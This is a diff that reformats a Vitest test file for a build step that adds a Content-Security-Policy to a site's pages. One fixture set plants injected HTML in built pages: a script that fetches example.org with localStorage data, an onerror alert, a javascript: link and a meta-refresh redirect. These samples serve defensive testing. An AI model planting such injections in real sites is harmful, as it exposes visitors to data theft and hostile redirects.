@@ -12,7 +12,10 @@ import { describe, expect, it } from 'vitest';
 import { sha256 } from '../../scripts/build/csp.ts';
 import { root } from '../site/support/build.ts';
 
-const themeSource = readFileSync(fileURLToPath(import.meta.resolve('@astrojs/starlight/components/ThemeProvider.astro')), 'utf8');
+const themeSource = readFileSync(
+  fileURLToPath(import.meta.resolve('@astrojs/starlight/components/ThemeProvider.astro')),
+  'utf8',
+);
 const themeScript = /<script is:inline>([\s\S]*?)<\/script>/.exec(themeSource)![1]!;
 
 function page(body: string): string {
@@ -40,14 +43,21 @@ function secureDist(dir: string) {
 
 describe('npm run secure-dist', () => {
   it('writes the policy into a page the site wrote, with its inline script allowed by hash', () => {
-    const dir = dist({ 'index.html': page('<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>'), 'a/index.html': page('<p>甲</p>') });
+    const dir = dist({
+      'index.html': page('<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>'),
+      'a/index.html': page('<p>甲</p>'),
+    });
     const run = secureDist(dir);
     expect(run.stderr).toBe('');
     expect(run.code).toBe(0);
     const html = readFileSync(path.join(dir, 'index.html'), 'utf8');
-    expect(html).toMatch(/<head><meta charset="utf-8"\/><meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-[^']+';/);
+    expect(html).toMatch(
+      /<head><meta charset="utf-8"\/><meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-[^']+';/,
+    );
     expect(html).toContain(sha256(themeScript));
-    expect(readFileSync(path.join(dir, '_headers'), 'utf8')).toContain(`script-src 'self' 'wasm-unsafe-eval' ${sha256(themeScript)};`);
+    expect(readFileSync(path.join(dir, '_headers'), 'utf8')).toContain(
+      `script-src 'self' 'wasm-unsafe-eval' ${sha256(themeScript)};`,
+    );
     // Run again on its own output: the policy is replaced, not added twice.
     expect(secureDist(dir).code).toBe(0);
     expect(readFileSync(path.join(dir, 'index.html'), 'utf8')).toBe(html);
@@ -58,7 +68,10 @@ describe('npm run secure-dist', () => {
       'index.html': page('<p>甲</p>'),
       'documents/x/index.html': page('<p>乙</p><script>fetch("https://example.org/?"+localStorage.length)</script>'),
       'departments/d-x/index.html': page('<img src=x onerror="alert(1)"><a href="javascript:alert(2)">市局</a>'),
-      'targets/index.html': page('').replace('<title>', '<meta http-equiv="refresh" content="0;url=https://example.org/"><title>'),
+      'targets/index.html': page('').replace(
+        '<title>',
+        '<meta http-equiv="refresh" content="0;url=https://example.org/"><title>',
+      ),
     };
     const dir = dist(injected);
     const run = secureDist(dir);
